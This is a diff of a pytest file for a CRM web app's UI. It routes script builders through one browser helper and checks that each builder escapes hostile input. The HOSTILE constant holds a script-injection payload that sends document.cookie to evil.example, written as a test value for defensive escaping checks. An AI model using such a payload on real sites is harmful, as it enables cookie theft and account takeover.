@@ -10,20 +10,33 @@ from pathlib import Path
 
 import pytest
 
-from pkcrm_app.ui.components import forms
-from pkcrm_app.ui.states import reply, whatsapp_settings
+from pkcrm_app.ui import browser
+from pkcrm_app.ui.pages.board import reply_state
+from pkcrm_app.ui.pages.whatsapp_settings import state as whatsapp_settings
 
 HOSTILE = "x'); fetch('https://evil.example/?c=' + document.cookie); ('\"</script>\u2028"
 UI = Path(__file__).resolve().parents[2] / "pkcrm_app" / "ui"
 
 BUILDERS: dict[str, Callable[[str], str]] = {
-    "whatsapp settings save": whatsapp_settings.save_script,
-    "reply file upload": lambda value: reply.upload_script(value),  # type: ignore[arg-type]
-    "code post (url)": lambda value: forms.post_code_script(value, "code"),
-    "code post (input)": lambda value: forms.post_code_script("/auth/step-up", value),
-    "form post (url)": lambda value: forms.post_form_script(value, "form"),
-    "form post (form)": lambda value: forms.post_form_script("/settings/sso/save", value),
+    "post (url)": lambda value: browser.post_script(value),
+    "reply file upload": lambda value: reply_state.file_upload_script(value),  # type: ignore[arg-type]
+    "upload (url)": lambda value: browser.upload_script(value, "form", missing="no file"),
+    "upload (form)": lambda value: browser.upload_script("/import/upload", value, missing="no file"),
+    "upload (missing)": lambda value: browser.upload_script("/import/upload", "form", missing=value),
+    "code post (url)": lambda value: browser.post_code_script(value, "code"),
+    "code post (input)": lambda value: browser.post_code_script("/auth/step-up", value),
+    "form post (url)": lambda value: browser.post_form_script(value, "form"),
+    "form post (form)": lambda value: browser.post_form_script("/settings/sso/save", value),
+    "form post and follow (url)": lambda value: browser.follow_script(value, "form"),
+    "form post and follow (form)": lambda value: browser.follow_script("/auth/login", value),
+    "enrolment code (input)": browser.enrolment_script,
 }
+
+
+def test_every_fetch_of_the_ui_goes_through_one_helper() -> None:
+    """One helper builds every POST to our routes, so every one gets the same escaping and answer handling."""
+    fetching = sorted(str(p.relative_to(UI)) for p in UI.rglob("*.py") if "fetch(" in p.read_text("utf-8"))
+    assert fetching == ["browser.py"]
 
 
 @pytest.mark.parametrize("name", sorted(BUILDERS))
